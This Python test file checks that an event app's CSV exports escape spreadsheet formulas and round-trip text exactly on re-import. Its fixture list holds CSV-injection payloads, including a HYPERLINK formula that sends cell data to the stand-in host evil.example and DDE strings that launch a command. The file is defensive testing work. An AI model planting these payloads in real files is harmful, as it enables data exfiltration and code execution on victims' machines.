"""Formula-safe CSV (issue 23, item 2 of the attack; OWASP "CSV injection"): no cell
townhall writes to a CSV starts a spreadsheet formula, and the re-import reads every
text back exactly as it was stored."""

from __future__ import annotations

import asyncio
import csv
import json
from pathlib import Path

from sqlmodel import select

from server.core.csvcells import TRIGGERS, escape_cell, unescape_cell
from server.event.loader import IssuedTokens
from server.live.followup import export_contacts
from server.report.export import export_event, import_export
from server.storage.db import Database
from server.storage.event_store import load_event_data
from server.storage.migrate import upgrade
from server.storage.models import (
    Comment,
    CurationLog,
    EventTable,
    FollowupContact,
    Question,
    Theme,
    ThemeMembership,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'tis a plain apostrophe",
]


def _cells(folder: Path) -> list[str]:
    cells = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as f:
            cells += [cell for row in csv.reader(f) for cell in row]
    return cells


def _is_formula(cell: str) -> bool:
    return cell.startswith(TRIGGERS[:-1]) and escape_cell(cell) != cell


async def _seed(db: Database, event_id: int) -> None:
    async with db.session() as s:
        table = (await s.exec(select(EventTable).where(EventTable.event_id == event_id))).first()
        question = (await s.exec(select(Question).where(Question.event_id == event_id))).first()
        assert table is not None and question is not None
        comments = [
            Comment(
                event_id=event_id,
                table_id=table.id or 0,
                question_id=question.id,
                client_id=f"c{i}",
                seq=i + 1,
                text=text,
            )
            for i, text in enumerate(FORMULAS)
        ]
        s.add_all(comments)
        theme = Theme(event_id=event_id, question_id=question.id or 0, key="t1", label=FORMULAS[0])
        s.add(theme)
        await s.flush()
        s.add_all(ThemeMembership(theme_id=theme.id or 0, comment_id=c.id or 0) for c in comments)
        s.add(
            CurationLog(
                event_id=event_id,
                question_id=question.id,
                actor="@SUM(1)",
                action="discard",
                after=json.dumps({"reason": "=1+1"}),
            )
        )
        s.add(
            FollowupContact(
                id="x1", event_id=event_id, email="=1+1@evil.example", created_on="2026-11-29"
            )
        )
        await s.commit()


def test_no_csv_cell_is_a_formula_and_the_reimport_is_exact(
    tokens: IssuedTokens, db_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "export"
    fresh = f"sqlite+aiosqlite:///{tmp_path / 'fresh.db'}"
    upgrade(fresh)

    async def go() -> tuple[list[str], list[str], list[str], list[str]]:
        db, db2 = Database(db_url), Database(fresh)
        try:
            await _seed(db, tokens.event_id)
            await export_event(db, tokens.event_id, out, "csv")
            await export_contacts(db, str(tokens.event_id), out / "contacts.csv")
            before = await load_event_data(db, tokens.event_id)
            after = await load_event_data(db2, await import_export(db2, out))
        finally:
            await db.dispose()
            await db2.dispose()
        return (
            sorted(c.text for c in before.comments),
            sorted(c.text for c in after.comments),
            [t.label for t in before.themes],
            [t.label for t in after.themes],
        )

    texts_before, texts_after, labels_before, labels_after = asyncio.run(go())
    cells = _cells(out)
    assert any(c == "'" + FORMULAS[0] for c in cells), "the formula went out, escaped"
    assert "'=1+1@evil.example" in cells, "the follow-up contacts file too"
    assert [c for c in cells if _is_formula(c)] == []
    assert texts_after == texts_before and set(FORMULAS) <= set(texts_after)
    assert labels_after == labels_before == [FORMULAS[0]]


def test_escaping_round_trips_and_leaves_numbers_alone() -> None:
    for text in [*FORMULAS, "plain", "", "-", "=", "'", "''"]:
        assert unescape_cell(str(escape_cell(text))) == text
    for number in ["-2", "+3.5", "-1e5", "-.5"]:
        assert escape_cell(number) == number
    assert escape_cell(-2) == -2
